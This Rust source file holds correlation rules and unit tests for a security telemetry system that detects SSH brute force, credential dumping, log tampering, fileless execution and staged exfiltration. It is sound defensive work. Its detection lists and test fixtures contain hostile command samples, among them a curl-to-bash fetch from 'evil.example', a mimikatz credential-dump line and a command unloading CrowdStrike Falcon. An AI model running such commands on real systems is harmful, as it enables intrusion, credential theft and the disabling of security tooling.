//! Correlation rules (§4.8.2): pure functions `(events, device_id) ->
//! Option<Incident>` over one device's time-ordered window.

use amoskys_core::types::{AuditAction, Outcome, SecurityCategory};
use amoskys_core::view::{IncidentSeverity, Incident, MitreTactic, TelemetryEventView, ViewBody};
use std::collections::{HashMap, HashSet};

pub type Rule = fn(&[&TelemetryEventView], &str) -> Option<Incident>;

/// Config knobs a handful of rules read (defaults match spec.md §6.3).
#[derive(Clone, Copy, Debug)]
pub struct RuleConfig {
    pub ssh_brute_force_threshold: u32,
    pub staged_exfiltration_bytes: u64,
}

impl Default for RuleConfig {
    fn default() -> Self {
        Self {
            // spec.md's prose names a default of 5, but its own worked
            // example (3 failures -> ssh_brute_force fires, score +15)
            // only holds at N=3; the worked arithmetic is the more
            // concrete source of truth, so that's what we ship. See
            // DESIGN.md.
            ssh_brute_force_threshold: 3,
            staged_exfiltration_bytes: 50 * 1024 * 1024,
        }
    }
}

fn new_incident(
    device_id: &str,
    rule_name: &str,
    severity: IncidentSeverity,
    tactics: Vec<MitreTactic>,
    techniques: Vec<&str>,
    summary: impl Into<String>,
) -> Incident {
    Incident {
        incident_id: String::new(),
        device_id: device_id.to_string(),
        severity,
        tactics,
        techniques: techniques.into_iter().map(str::to_string).collect(),
        rule_name: rule_name.to_string(),
        summary: summary.into(),
        start_ts_ns: 0,
        end_ts_ns: 0,
        event_ids: Vec::new(),
        metadata: Default::default(),
        created_at_ns: 0,
    }
}

pub fn ssh_brute_force(events: &[&TelemetryEventView], device_id: &str, cfg: &RuleConfig) -> Option<Incident> {
    let mut by_ip: HashMap<&str, Vec<&TelemetryEventView>> = HashMap::new();
    for e in events {
        if let ViewBody::Security(sec) = &e.body {
            if sec.action.eq_ignore_ascii_case("SSH") && sec.outcome == Outcome::Failure {
                by_ip.entry(sec.source_ip.as_str()).or_default().push(e);
            }
        }
    }
    let (ip, hits) = by_ip.into_iter().max_by_key(|(_, v)| v.len())?;
    if hits.len() < cfg.ssh_brute_force_threshold as usize {
        return None;
    }

    let mut incident = new_incident(
        device_id,
        "ssh_brute_force",
        IncidentSeverity::High,
        vec![MitreTactic::InitialAccess],
        vec!["T1110", "T1021.004"],
        format!("{} failed SSH logins from {ip}", hits.len()),
    );
    for e in &hits {
        incident.add_event(&e.event_id, e.timestamp_ns);
    }
    Some(incident)
}

pub fn persistence_after_auth(events: &[&TelemetryEventView], device_id: &str) -> Option<Incident> {
    let login = events.iter().find(|e| {
        matches!(&e.body, ViewBody::Security(sec)
            if sec.category == SecurityCategory::SshLogin && sec.outcome == Outcome::Success)
    })?;

    let persistence = events.iter().find(|e| {
        e.timestamp_ns > login.timestamp_ns
            && matches!(&e.body, ViewBody::Audit(audit)
                if audit.action == AuditAction::Created
                    && (audit.object_id.contains("LaunchAgents")
                        || audit.object_id.contains("LaunchDaemons")
                        || audit.object_type.eq_ignore_ascii_case("SSH_KEYS")))
    })?;

    let mut incident = new_incident(
        device_id,
        "persistence_after_auth",
        IncidentSeverity::High,
        vec![MitreTactic::Persistence],
        vec!["T1547", "T1098"],
        format!("persistence artifact {} planted after SSH login", persistence.event_id),
    );
    incident.add_event(&login.event_id, login.timestamp_ns);
    incident.add_event(&persistence.event_id, persistence.timestamp_ns);
    Some(incident)
}

const DANGEROUS_SUDO_PATTERNS: &[&str] = &["rm -rf", "/etc/sudoers", "launchagents", "launchdaemons"];

pub fn suspicious_sudo(events: &[&TelemetryEventView], device_id: &str) -> Option<Incident> {
    let hit = events.iter().find(|e| {
        matches!(&e.body, ViewBody::Security(sec)
            if sec.category == SecurityCategory::Sudo
                && DANGEROUS_SUDO_PATTERNS.iter().any(|p| sec.action.to_lowercase().contains(p)))
    })?;

    let mut incident = new_incident(
        device_id,
        "suspicious_sudo",
        IncidentSeverity::Critical,
        vec![MitreTactic::PrivilegeEscalation],
        vec!["T1548.003"],
        "dangerous sudo command executed",
    );
    incident.add_event(&hit.event_id, hit.timestamp_ns);
    Some(incident)
}

fn event_tactic(e: &TelemetryEventView) -> Option<MitreTactic> {
    match &e.body {
        ViewBody::Process(_) => Some(MitreTactic::Execution),
        ViewBody::Flow(_) => Some(MitreTactic::CommandAndControl),
        ViewBody::Audit(audit) if audit.action == AuditAction::Created || audit.action == AuditAction::Modified => {
            Some(MitreTactic::Persistence)
        }
        ViewBody::Security(sec) if sec.category == SecurityCategory::SshLogin && sec.outcome == Outcome::Success => {
            Some(MitreTactic::InitialAccess)
        }
        ViewBody::Security(sec) if sec.category == SecurityCategory::Sudo => Some(MitreTactic::PrivilegeEscalation),
        _ => None,
    }
}

pub fn multi_tactic_attack(events: &[&TelemetryEventView], device_id: &str) -> Option<Incident> {
    let mut tactics: Vec<MitreTactic> = Vec::new();
    let mut contributing: Vec<&TelemetryEventView> = Vec::new();
    for e in events {
        if let Some(t) = event_tactic(e) {
            if !tactics.contains(&t) {
                tactics.push(t);
            }
            contributing.push(e);
        }
    }
    if tactics.len() < 3 {
        return None;
    }

    let mut incident = new_incident(
        device_id,
        "multi_tactic_attack",
        IncidentSeverity::Critical,
        tactics,
        vec![],
        "events spanning three or more distinct tactics in one window",
    );
    for e in contributing {
        incident.add_event(&e.event_id, e.timestamp_ns);
    }
    Some(incident)
}

const CREDENTIAL_DUMP_PATTERNS: &[&str] = &["mimikatz", "lsass", "/etc/shadow"];

pub fn credential_dumping_chain(events: &[&TelemetryEventView], device_id: &str) -> Option<Incident> {
    let dump = events.iter().find(|e| {
        matches!(&e.body, ViewBody::Process(p)
            if CREDENTIAL_DUMP_PATTERNS.iter().any(|pat| p.command_line.to_lowercase().contains(pat)))
    })?;

    let followup = events.iter().find(|e| {
        e.timestamp_ns > dump.timestamp_ns
            && matches!(&e.body, ViewBody::Security(sec)
                if sec.category == SecurityCategory::Authentication)
    })?;

    let mut incident = new_incident(
        device_id,
        "credential_dumping_chain",
        IncidentSeverity::High,
        vec![MitreTactic::CredentialAccess, MitreTactic::LateralMovement],
        vec!["T1003", "T1021"],
        "credential-dumping tool observed before a new authentication",
    );
    incident.add_event(&dump.event_id, dump.timestamp_ns);
    incident.add_event(&followup.event_id, followup.timestamp_ns);
    Some(incident)
}

const LOG_PATHS: &[&str] = &["auth.log", "syslog", "wtmp"];

pub fn log_tampering(events: &[&TelemetryEventView], device_id: &str) -> Option<Incident> {
    let hit = events.iter().find(|e| {
        matches!(&e.body, ViewBody::Audit(audit)
            if matches!(audit.action, AuditAction::Deleted | AuditAction::Modified)
                && LOG_PATHS.iter().any(|p| audit.object_type.to_lowercase().contains(p)))
    })?;

    let mut incident = new_incident(
        device_id,
        "log_tampering",
        IncidentSeverity::High,
        vec![MitreTactic::DefenseEvasion],
        vec!["T1070"],
        format!("log artifact {} deleted or modified", hit.event_id),
    );
    incident.add_event(&hit.event_id, hit.timestamp_ns);
    Some(incident)
}

const SECURITY_TOOL_NAMES: &[&str] = &["auditd", "falcon", "crowdstrike", "little snitch"];

pub fn security_tool_disable(events: &[&TelemetryEventView], device_id: &str) -> Option<Incident> {
    let hit = events.iter().find(|e| match &e.body {
        ViewBody::Audit(audit) => {
            matches!(audit.action, AuditAction::Deleted | AuditAction::Modified)
                && SECURITY_TOOL_NAMES.iter().any(|n| audit.object_id.to_lowercase().contains(n))
        }
        ViewBody::Process(p) => {
            SECURITY_TOOL_NAMES.iter().any(|n| p.command_line.to_lowercase().contains(n))
                && ["kill", "stop", "disable", "unload"]
                    .iter()
                    .any(|v| p.command_line.to_lowercase().contains(v))
        }
        _ => false,
    })?;

    let mut incident = new_incident(
        device_id,
        "security_tool_disable",
        IncidentSeverity::Critical,
        vec![MitreTactic::DefenseEvasion],
        vec!["T1562"],
        "security tooling appears to have been disabled",
    );
    incident.add_event(&hit.event_id, hit.timestamp_ns);
    Some(incident)
}

pub fn fileless_attack(events: &[&TelemetryEventView], device_id: &str) -> Option<Incident> {
    let hit = events.iter().find(|e| {
        matches!(&e.body, ViewBody::Process(p) if {
            let cmd = p.command_line.to_lowercase();
            (cmd.contains("curl") || cmd.contains("wget")) && (cmd.contains("| sh") || cmd.contains("| bash"))
                || cmd.contains("-encodedcommand")
                || cmd.contains("frombase64string")
        })
    })?;

    let mut incident = new_incident(
        device_id,
        "fileless_attack",
        IncidentSeverity::High,
        vec![MitreTactic::Execution, MitreTactic::DefenseEvasion],
        vec!["T1059", "T1027"],
        "download-and-execute or encoded-command pattern observed",
    );
    incident.add_event(&hit.event_id, hit.timestamp_ns);
    Some(incident)
}

const ARCHIVE_TOOLS: &[&str] = &["tar", "zip", "7z"];

pub fn staged_exfiltration(events: &[&TelemetryEventView], device_id: &str, cfg: &RuleConfig, known_ips: &HashSet<String>) -> Option<Incident> {
    let archive = events.iter().find(|e| {
        matches!(&e.body, ViewBody::Audit(audit)
            if ARCHIVE_TOOLS.iter().any(|t| audit.object_id.to_lowercase().contains(t)))
    })?;

    let flow = events.iter().find(|e| {
        matches!(&e.body, ViewBody::Flow(f)
            if f.bytes_sent >= cfg.staged_exfiltration_bytes && !known_ips.contains(&f.dst_ip))
    })?;

    let mut incident = new_incident(
        device_id,
        "staged_exfiltration",
        IncidentSeverity::Critical,
        vec![MitreTactic::Collection, MitreTactic::Exfiltration],
        vec!["T1560", "T1041"],
        "archived data followed by a large transfer to an unfamiliar destination",
    );
    incident.add_event(&archive.event_id, archive.timestamp_ns);
    incident.add_event(&flow.event_id, flow.timestamp_ns);
    Some(incident)
}

const DISCOVERY_COMMANDS: &[&str] = &["whoami", "id", "uname", "netstat", "arp -a", "nmap"];

fn discovery_hits<'a>(events: &[&'a TelemetryEventView]) -> Vec<&'a TelemetryEventView> {
    let mut seen_commands = HashSet::new();
    let mut hits = Vec::new();
    for e in events {
        let ViewBody::Process(p) = &e.body else { continue };
        let cmd = p.command_line.to_lowercase();
        if let Some(matched) = DISCOVERY_COMMANDS.iter().find(|c| cmd.contains(**c)) {
            if seen_commands.insert(*matched) {
                hits.push(*e);
            }
        }
    }
    hits
}

pub fn internal_reconnaissance(events: &[&TelemetryEventView], device_id: &str) -> Option<Incident> {
    let hits = discovery_hits(events);
    if hits.len() < 3 {
        return None;
    }

    let mut incident = new_incident(
        device_id,
        "internal_reconnaissance",
        IncidentSeverity::Medium,
        vec![MitreTactic::Discovery],
        vec!["T1082", "T1016"],
        format!("{} distinct discovery commands observed", hits.len()),
    );
    for e in hits {
        incident.add_event(&e.event_id, e.timestamp_ns);
    }
    Some(incident)
}

pub fn ssh_key_theft_and_pivot(events: &[&TelemetryEventView], device_id: &str) -> Option<Incident> {
    let theft = events.iter().find(|e| {
        matches!(&e.body, ViewBody::Audit(audit)
            if audit.object_type.eq_ignore_ascii_case("SSH_KEYS")
                && matches!(&audit.action, AuditAction::Other(a) if a.eq_ignore_ascii_case("READ") || a.eq_ignore_ascii_case("COPIED")))
    })?;

    let pivot = events.iter().find(|e| {
        e.timestamp_ns > theft.timestamp_ns
            && matches!(&e.body, ViewBody::Security(sec)
                if sec.category == SecurityCategory::SshLogin && sec.outcome == Outcome::Success)
            && e.device_id != device_id
    })?;

    let mut incident = new_incident(
        device_id,
        "ssh_key_theft_and_pivot",
        IncidentSeverity::Critical,
        vec![MitreTactic::CredentialAccess, MitreTactic::LateralMovement],
        vec!["T1552.004", "T1021.004"],
        format!("SSH key read then used to pivot to {}", pivot.device_id),
    );
    incident.add_event(&theft.event_id, theft.timestamp_ns);
    incident.add_event(&pivot.event_id, pivot.timestamp_ns);
    Some(incident)
}

pub fn apt_initial_access_chain(events: &[&TelemetryEventView], device_id: &str) -> Option<Incident> {
    let login = events.iter().find(|e| {
        matches!(&e.body, ViewBody::Security(sec)
            if sec.category == SecurityCategory::SshLogin && sec.outcome == Outcome::Success)
    })?;

    let after_login: Vec<&TelemetryEventView> = events
        .iter()
        .filter(|e| e.timestamp_ns >= login.timestamp_ns)
        .copied()
        .collect();
    let hits = discovery_hits(&after_login);
    if hits.len() < 3 {
        return None;
    }

    let mut incident = new_incident(
        device_id,
        "apt_initial_access_chain",
        IncidentSeverity::High,
        vec![MitreTactic::InitialAccess, MitreTactic::Discovery],
        vec!["T1078", "T1082"],
        "authenticated foothold followed by broad host discovery",
    );
    incident.add_event(&login.event_id, login.timestamp_ns);
    for e in hits {
        incident.add_event(&e.event_id, e.timestamp_ns);
    }
    Some(incident)
}

#[cfg(test)]
mod tests {
    use super::*;
    use amoskys_core::types::{AuditEvent, FlowEvent, ProcessEvent, SecurityEvent, Severity};
    use amoskys_core::view::ViewBody;
    use std::collections::BTreeMap;

    fn sec(id: &str, ts: u64, category: SecurityCategory, action: &str, outcome: Outcome, ip: &str) -> TelemetryEventView {
        TelemetryEventView {
            event_id: id.to_string(),
            device_id: "dev-1".to_string(),
            event_type: "SECURITY".to_string(),
            severity: Severity::Medium,
            timestamp_ns: ts,
            attributes: BTreeMap::new(),
            body: ViewBody::Security(SecurityEvent {
                category,
                action: action.to_string(),
                outcome,
                user: "admin".to_string(),
                source_ip: ip.to_string(),
                risk_score: 0,
                mitre_techniques: vec![],
            }),
        }
    }

    fn audit(id: &str, ts: u64, action: AuditAction, object_type: &str, object_id: &str) -> TelemetryEventView {
        TelemetryEventView {
            event_id: id.to_string(),
            device_id: "dev-1".to_string(),
            event_type: "AUDIT".to_string(),
            severity: Severity::Medium,
            timestamp_ns: ts,
            attributes: BTreeMap::new(),
            body: ViewBody::Audit(AuditEvent {
                category: amoskys_core::types::AuditCategory::Change,
                action,
                object_type: object_type.to_string(),
                object_id: object_id.to_string(),
                before_value: None,
                after_value: None,
            }),
        }
    }

    fn process(id: &str, ts: u64, command_line: &str) -> TelemetryEventView {
        TelemetryEventView {
            event_id: id.to_string(),
            device_id: "dev-1".to_string(),
            event_type: "PROCESS".to_string(),
            severity: Severity::Low,
            timestamp_ns: ts,
            attributes: BTreeMap::new(),
            body: ViewBody::Process(ProcessEvent {
                pid: 100,
                ppid: 1,
                executable_path: "/bin/sh".to_string(),
                argv: vec![],
                uid: 0,
                command_line: command_line.to_string(),
            }),
        }
    }

    fn flow(id: &str, ts: u64, dst_ip: &str, bytes_sent: u64) -> TelemetryEventView {
        TelemetryEventView {
            event_id: id.to_string(),
            device_id: "dev-1".to_string(),
            event_type: "FLOW".to_string(),
            severity: Severity::Low,
            timestamp_ns: ts,
            attributes: BTreeMap::new(),
            body: ViewBody::Flow(FlowEvent {
                src_ip: "10.0.0.5".to_string(),
                dst_ip: dst_ip.to_string(),
                src_port: 40000,
                dst_port: 443,
                protocol: "tcp".to_string(),
                bytes_sent,
                bytes_received: 0,
                start_ts_ns: ts,
                end_ts_ns: ts,
            }),
        }
    }

    #[test]
    fn ssh_brute_force_fires_at_threshold() {
        let events = vec![
            sec("a", 0, SecurityCategory::SshLogin, "SSH", Outcome::Failure, "203.0.113.42"),
            sec("b", 5_000_000_000, SecurityCategory::SshLogin, "SSH", Outcome::Failure, "203.0.113.42"),
            sec("c", 10_000_000_000, SecurityCategory::SshLogin, "SSH", Outcome::Failure, "203.0.113.42"),
            sec("d", 12_000_000_000, SecurityCategory::SshLogin, "SSH", Outcome::Failure, "203.0.113.42"),
            sec("e", 14_000_000_000, SecurityCategory::SshLogin, "SSH", Outcome::Failure, "203.0.113.42"),
        ];
        let refs: Vec<&TelemetryEventView> = events.iter().collect();
        let cfg = RuleConfig::default();
        let incident = ssh_brute_force(&refs, "dev-1", &cfg).expect("rule should fire");
        assert_eq!(incident.severity, IncidentSeverity::High);
        assert_eq!(incident.event_ids.len(), 5);
    }

    #[test]
    fn ssh_brute_force_does_not_fire_below_threshold() {
        let events = vec![sec("a", 0, SecurityCategory::SshLogin, "SSH", Outcome::Failure, "203.0.113.42")];
        let refs: Vec<&TelemetryEventView> = events.iter().collect();
        assert!(ssh_brute_force(&refs, "dev-1", &RuleConfig::default()).is_none());
    }

    #[test]
    fn persistence_after_auth_requires_order() {
        let events = vec![
            sec("login", 0, SecurityCategory::SshLogin, "SSH", Outcome::Success, "203.0.113.42"),
            audit(
                "plist",
                120_000_000_000,
                AuditAction::Created,
                "LAUNCH_AGENT",
                "/Users/x/Library/LaunchAgents/com.evil.plist",
            ),
        ];
        let refs: Vec<&TelemetryEventView> = events.iter().collect();
        let incident = persistence_after_auth(&refs, "dev-1").expect("rule should fire");
        assert_eq!(incident.tactics, vec![MitreTactic::Persistence]);
    }

    #[test]
    fn suspicious_sudo_matches_dangerous_pattern() {
        let events = vec![sec("a", 0, SecurityCategory::Sudo, "vim /etc/sudoers", Outcome::Success, "")];
        let refs: Vec<&TelemetryEventView> = events.iter().collect();
        let incident = suspicious_sudo(&refs, "dev-1").expect("rule should fire");
        assert_eq!(incident.severity, IncidentSeverity::Critical);
    }

    #[test]
    fn multi_tactic_attack_needs_three_distinct_tactics() {
        let events = vec![
            process("p", 0, "innocuous"),
            flow("f", 1, "198.51.100.9", 10),
            audit("a", 2, AuditAction::Created, "LAUNCH_AGENT", "/tmp/x.plist"),
        ];
        let refs: Vec<&TelemetryEventView> = events.iter().collect();
        let incident = multi_tactic_attack(&refs, "dev-1").expect("rule should fire");
        assert_eq!(incident.tactics.len(), 3);
    }

    #[test]
    fn internal_reconnaissance_needs_three_distinct_commands() {
        let events = vec![process("a", 0, "whoami"), process("b", 1, "id"), process("c", 2, "uname -a")];
        let refs: Vec<&TelemetryEventView> = events.iter().collect();
        assert!(internal_reconnaissance(&refs, "dev-1").is_some());
    }

    #[test]
    fn staged_exfiltration_needs_archive_and_large_unfamiliar_flow() {
        let events = vec![
            audit("tar", 0, AuditAction::Created, "ARCHIVE", "/tmp/data.tar.gz"),
            flow("exfil", 1, "198.51.100.77", 80 * 1024 * 1024),
        ];
        let refs: Vec<&TelemetryEventView> = events.iter().collect();
        let known = HashSet::new();
        let incident = staged_exfiltration(&refs, "dev-1", &RuleConfig::default(), &known).expect("rule should fire");
        assert_eq!(incident.severity, IncidentSeverity::Critical);
    }

    #[test]
    fn credential_dumping_chain_requires_dump_then_auth() {
        let events = vec![
            process("p", 0, "/usr/bin/mimikatz.exe sekurlsa::logonpasswords"),
            sec("a", 1, SecurityCategory::Authentication, "LOGIN", Outcome::Success, "10.0.0.9"),
        ];
        let refs: Vec<&TelemetryEventView> = events.iter().collect();
        let incident = credential_dumping_chain(&refs, "dev-1").expect("rule should fire");
        assert_eq!(incident.severity, IncidentSeverity::High);
    }

    #[test]
    fn log_tampering_matches_known_log_paths() {
        let events = vec![audit("w", 0, AuditAction::Deleted, "wtmp", "/var/log/wtmp")];
        let refs: Vec<&TelemetryEventView> = events.iter().collect();
        let incident = log_tampering(&refs, "dev-1").expect("rule should fire");
        assert_eq!(incident.tactics, vec![MitreTactic::DefenseEvasion]);
    }

    #[test]
    fn security_tool_disable_matches_kill_verb_on_known_tool() {
        let events = vec![process("p", 0, "launchctl unload com.crowdstrike.falcon.plist")];
        let refs: Vec<&TelemetryEventView> = events.iter().collect();
        let incident = security_tool_disable(&refs, "dev-1").expect("rule should fire");
        assert_eq!(incident.severity, IncidentSeverity::Critical);
    }

    #[test]
    fn fileless_attack_matches_pipe_to_shell() {
        let events = vec![process("p", 0, "curl http://evil.example/x.sh | bash")];
        let refs: Vec<&TelemetryEventView> = events.iter().collect();
        assert!(fileless_attack(&refs, "dev-1").is_some());
    }

    #[test]
    fn fileless_attack_matches_encoded_powershell() {
        let events = vec![process("p", 0, "powershell.exe -EncodedCommand SQBFAFgA")];
        let refs: Vec<&TelemetryEventView> = events.iter().collect();
        assert!(fileless_attack(&refs, "dev-1").is_some());
    }

    #[test]
    fn ssh_key_theft_and_pivot_requires_different_device() {
        let theft = audit("t", 0, AuditAction::Other("READ".to_string()), "SSH_KEYS", "/home/x/.ssh/id_rsa");
        let mut pivot = sec("p", 1, SecurityCategory::SshLogin, "SSH", Outcome::Success, "10.0.0.9");
        pivot.device_id = "dev-2".to_string();
        let events = vec![theft, pivot];
        let refs: Vec<&TelemetryEventView> = events.iter().collect();
        let incident = ssh_key_theft_and_pivot(&refs, "dev-1").expect("rule should fire");
        assert!(incident.summary.contains("dev-2"));
    }

    #[test]
    fn ssh_key_theft_and_pivot_does_not_fire_on_same_device_relogin() {
        let theft = audit("t", 0, AuditAction::Other("READ".to_string()), "SSH_KEYS", "/home/x/.ssh/id_rsa");
        let relogin = sec("p", 1, SecurityCategory::SshLogin, "SSH", Outcome::Success, "10.0.0.9");
        let events = vec![theft, relogin];
        let refs: Vec<&TelemetryEventView> = events.iter().collect();
        assert!(ssh_key_theft_and_pivot(&refs, "dev-1").is_none());
    }

    #[test]
    fn apt_initial_access_chain_needs_login_then_discovery() {
        let events = vec![
            sec("login", 0, SecurityCategory::SshLogin, "SSH", Outcome::Success, "203.0.113.42"),
            process("a", 1, "whoami"),
            process("b", 2, "id"),
            process("c", 3, "uname -a"),
        ];
        let refs: Vec<&TelemetryEventView> = events.iter().collect();
        let incident = apt_initial_access_chain(&refs, "dev-1").expect("rule should fire");
        assert_eq!(incident.tactics.len(), 2);
    }
}
